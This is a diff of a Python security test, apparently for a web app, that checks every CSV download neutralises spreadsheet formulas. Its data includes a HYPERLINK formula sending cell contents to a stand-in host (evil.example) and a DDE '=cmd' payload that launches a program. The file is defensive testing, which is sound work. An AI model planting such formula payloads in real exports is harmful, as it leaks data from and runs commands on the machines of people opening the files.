@@ -15,9 +15,9 @@ from app.extensions import db
 from app.participation.services import record_event
 from app.timeutil import utcnow
 from tests.factories import make_contact
-
-from .conftest import build_url, csrf_token, sign_in
-from .routes import ROUTES
+from tests.security.helpers import build_url, sign_in
+from tests.security.routes import ROUTES
+from tests.support import csrf_token
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
@@ -43,7 +43,8 @@ def test_every_csv_download_neutralizes_formulas(world, capsys):
     rows = (
         "telefono,nombre,municipio,etiquetas\n"
         + "\n".join(
-            f'664 555 {6100 + i},"{f.replace(chr(34), chr(34) * 2)}","{f.replace(chr(34), chr(34) * 2)}",x'
+            f'664 555 {6100 + i},"{f.replace(chr(34), chr(34) * 2)}",'
+            f'"{f.replace(chr(34), chr(34) * 2)}",x'
             for i, f in enumerate(FORMULAS)
         )
         + "\n\"=cmd|' /C calc'!A0\",Malo,Tijuana,x\n"
